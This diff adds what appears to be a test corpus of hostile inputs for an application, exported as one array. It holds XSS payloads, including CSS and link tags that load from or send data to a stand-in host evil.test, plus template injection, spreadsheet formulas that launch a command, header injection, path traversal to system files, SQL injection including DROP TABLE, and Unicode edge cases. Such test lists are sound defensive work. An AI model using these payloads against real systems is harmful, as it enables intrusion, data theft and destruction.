@@ -1,0 +1,20 @@
+// Markup that ran scripts somewhere, CSV formulas, template expressions, and names that broke paths and headers.
+export const XSS = [
+  "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "<img src=x onerror=alert`1`>",
+  "<svg onload=alert(1)>", "<svg><script>alert&#40;1)</script>", "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+  "<body onload=alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
+  "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "javascript:alert(1)//",
+  "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "<form action=javascript:alert(1)><input type=submit>",
+  "<input onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
+  "<style>@import'//evil.test/x.css'</style>", "<style>input[value^=a]{background:url(//evil.test)}</style>", "<link rel=stylesheet href=//evil.test>", "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
+  "<base href=//evil.test/>", "<object data=//evil.test/x.swf>", "<embed src=//evil.test>", "<template><script>alert(1)</script></template>",
+  "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script>",
+  "]]><script>alert(1)</script>", "<!--<img src=\"--><img src=x onerror=alert(1)>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
+  "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{{7*7}}", "{%raw%}", "[[${7*7}]]", "*{7*7}",
+  "=HYPERLINK(\"http://evil.test\",\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "=1+1\n",
+  "\u202Egnp.exe", "\u200B<script>alert(1)</script>", "\uFEFF=1+1", "ａｄｍｉｎ", "аdmin", "admin\u0000", "\u2028alert(1)", "\u00ADscript",
+  "a\r\nBcc: victim@test.test", "a%0d%0aSet-Cookie: x=1", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f", "file:///etc/passwd", "CON", "NUL.png",
+  "' OR '1'='1", "'; DROP TABLE tickets; --", "1 UNION SELECT * FROM sessions", "\" OR \"\"=\"", "%' OR 1=1 --", "NEAR(\"a\" \"b\")", "a AND NOT b*", "col:^x",
+  "__proto__", "constructor", "[object Object]", "NaN", "Infinity", "-0", "1e309", "0x7fffffff", "9007199254740993", "true", "null", "undefined", "",
+  " ", "\u3000", "\u200D", "\uD800", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "é", "e\u0301", "İ", "ß", "ﬀ", "ﷺ", "Z͑ͫA̴L̠G̴O", "工单".repeat(50), "x".repeat(5_000), "𠜎".repeat(90),
+];
